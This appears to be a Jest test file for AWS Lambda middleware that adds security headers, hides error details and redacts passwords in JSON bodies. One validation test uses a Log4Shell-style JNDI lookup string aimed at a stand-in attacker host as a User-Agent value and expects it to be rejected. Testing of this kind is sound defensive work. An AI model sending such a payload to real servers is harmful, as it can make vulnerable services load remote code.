import type { APIGatewayProxyEvent, Context } from 'aws-lambda';
import { applySecurityHeaders, HttpResponse, SECURITY_HEADERS, withSecurityHeaders } from '../../../src/middleware';

const context = { awsRequestId: 'request-1' } as Context;
const v1 = { httpMethod: 'GET', headers: {}, requestContext: {} } as unknown as APIGatewayProxyEvent;

let logged: jest.SpyInstance;
beforeEach(() => {
  logged = jest.spyOn(console, 'error').mockImplementation(() => undefined);
});
afterEach(() => logged.mockRestore());

test('the headers have the values of the document, and those beside them values that keep other sites out', () => {
  expect(SECURITY_HEADERS).toMatchObject({
    'Strict-Transport-Security': 'max-age=31536000; includeSubDomains; preload',
    'X-Content-Type-Options': 'nosniff',
    'X-Frame-Options': 'DENY',
    'X-XSS-Protection': '1; mode=block',
    'Content-Security-Policy': "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'",
    'Referrer-Policy': 'strict-origin-when-cross-origin',
    'Cache-Control': 'no-store, no-cache, must-revalidate, private',
  });
  for (const feature of ['geolocation', 'microphone', 'camera', 'payment', 'usb']) {
    expect(SECURITY_HEADERS['Permissions-Policy']).toContain(`${feature}=()`);
  }
  expect(SECURITY_HEADERS).toMatchObject({
    'Cross-Origin-Opener-Policy': 'same-origin',
    'Cross-Origin-Resource-Policy': 'same-origin',
    'Cross-Origin-Embedder-Policy': 'require-corp',
    'X-Permitted-Cross-Domain-Policies': 'none',
    'Origin-Agent-Cluster': '?1',
  });
});

describe('applySecurityHeaders', () => {
  test.each([
    { headers: { 'x-frame-options': 'SAMEORIGIN' } },
    { headers: { 'X-FRAME-OPTIONS': 'SAMEORIGIN' } },
    { multiValueHeaders: { 'x-Frame-Options': ['SAMEORIGIN'] } },
  ])("leaves the handler's own header: %j", (own) => {
    const response = applySecurityHeaders<HttpResponse>({ statusCode: 200, ...own });
    expect(response.headers).not.toHaveProperty('X-Frame-Options', 'DENY');
    expect(response).toMatchObject(own);
  });

  test('changes nothing that the handler owns', () => {
    const response: HttpResponse = Object.freeze({ statusCode: 200, headers: Object.freeze({ A: 'b' }) });
    expect(applySecurityHeaders(response)).not.toBe(response);
    expect(response).toEqual({ statusCode: 200, headers: { A: 'b' } });
  });

  test('takes values of your own, and leaves out what is false', () => {
    const { headers } = applySecurityHeaders<HttpResponse>({ statusCode: 200 },
      { headers: { 'cache-control': 'max-age=60', 'X-XSS-Protection': false, 'X-Mine': '1' } });
    expect(headers).toMatchObject({ 'cache-control': 'max-age=60', 'X-Mine': '1' });
    expect(Object.keys(headers!)).not.toContain('X-XSS-Protection');
    expect(Object.keys(headers!)).not.toContain('Cache-Control');
  });
});

describe('withSecurityHeaders', () => {
  test('adds headers to the responses of async and plain handlers', async () => {
    const asynchronous = withSecurityHeaders(async (_: APIGatewayProxyEvent) => ({ statusCode: 200, body: 'a' }));
    const plain = withSecurityHeaders((_: APIGatewayProxyEvent) => ({ statusCode: 200, body: 'b' }));
    expect((await asynchronous(v1, context) as HttpResponse).headers).toMatchObject(SECURITY_HEADERS);
    expect((await plain(v1, context) as HttpResponse).headers).toMatchObject(SECURITY_HEADERS);
  });

  test('wraps once', () => {
    const wrapped = withSecurityHeaders(async () => ({ statusCode: 200 }));
    expect(withSecurityHeaders(wrapped)).toBe(wrapped);
  });

  test('responds to an error once, with 500, the headers and the request id, and nothing of it', async () => {
    const handler = withSecurityHeaders(async (_: APIGatewayProxyEvent): Promise<HttpResponse> => {
      throw new Error('password is hunter2');
    });
    const response = await handler(v1, context);
    expect(response).toMatchObject({ statusCode: 500, headers: SECURITY_HEADERS });
    expect(JSON.parse(response.body!)).toEqual({ message: 'Internal Server Error', requestId: 'request-1' });
    expect(logged).toHaveBeenCalledTimes(1);
  });

  test.each([[v1, { onError: 'rethrow' as const }], [{ Records: [{}] }, {}],
    [{ type: 'TOKEN', methodArn: 'arn' }, {}]])('leaves errors to Lambda: %j', async (event, options) => {
    await expect(withSecurityHeaders(async () => { throw new Error('no'); }, options)(event, context)).rejects.toThrow('no');
    expect(logged).not.toHaveBeenCalled();
  });

  test('validate rejects a suspicious request with 400 before the handler runs', async () => {
    const warned = jest.spyOn(console, 'warn').mockImplementation(() => undefined);
    const inner = jest.fn(async () => ({ statusCode: 200 }));
    const handler = withSecurityHeaders(inner, { validate: true });
    const attack = { ...v1, headers: { 'User-Agent': '${jndi:ldap://attacker.example/a}' } };
    expect(await handler(attack as never, context as never)).toMatchObject({ statusCode: 400, headers: { 'X-Frame-Options': 'DENY' } });
    expect(inner).not.toHaveBeenCalled();
    expect(warned).toHaveBeenCalledWith('{"message":"Request rejected","violations":[{"header":"user-agent","rule":"log4shell"}]}');
    warned.mockRestore();
    expect(await handler({ ...v1, headers: { 'User-Agent': 'curl/8.5.0' } } as never, context as never)).toMatchObject({ statusCode: 200 });
  });

  test('sanitize redacts JSON bodies, and leaves other ones as they are', async () => {
    const bodyOf = async (response: HttpResponse) => (await withSecurityHeaders(async () => response, { sanitize: true })({},
      context)).body;
    expect(await bodyOf({ statusCode: 200, body: '{"user":"a","password":"b"}' })).toBe('{"user":"a","password":"[REDACTED]"}');
    expect(await bodyOf({ statusCode: 200, body: 'password=b' })).toBe('password=b');
    expect(await bodyOf({
      statusCode: 200,
      body: 'eyJwYXNzd29yZCI6ImIifQ==',
      isBase64Encoded: true,
    })).toBe('eyJwYXNzd29yZCI6IltSRURBQ1RFRF0ifQ==');
    expect(await bodyOf({ statusCode: 200, body: '{"id": 12345678901234567890}' })).toBe('{"id": 12345678901234567890}');
  });
});
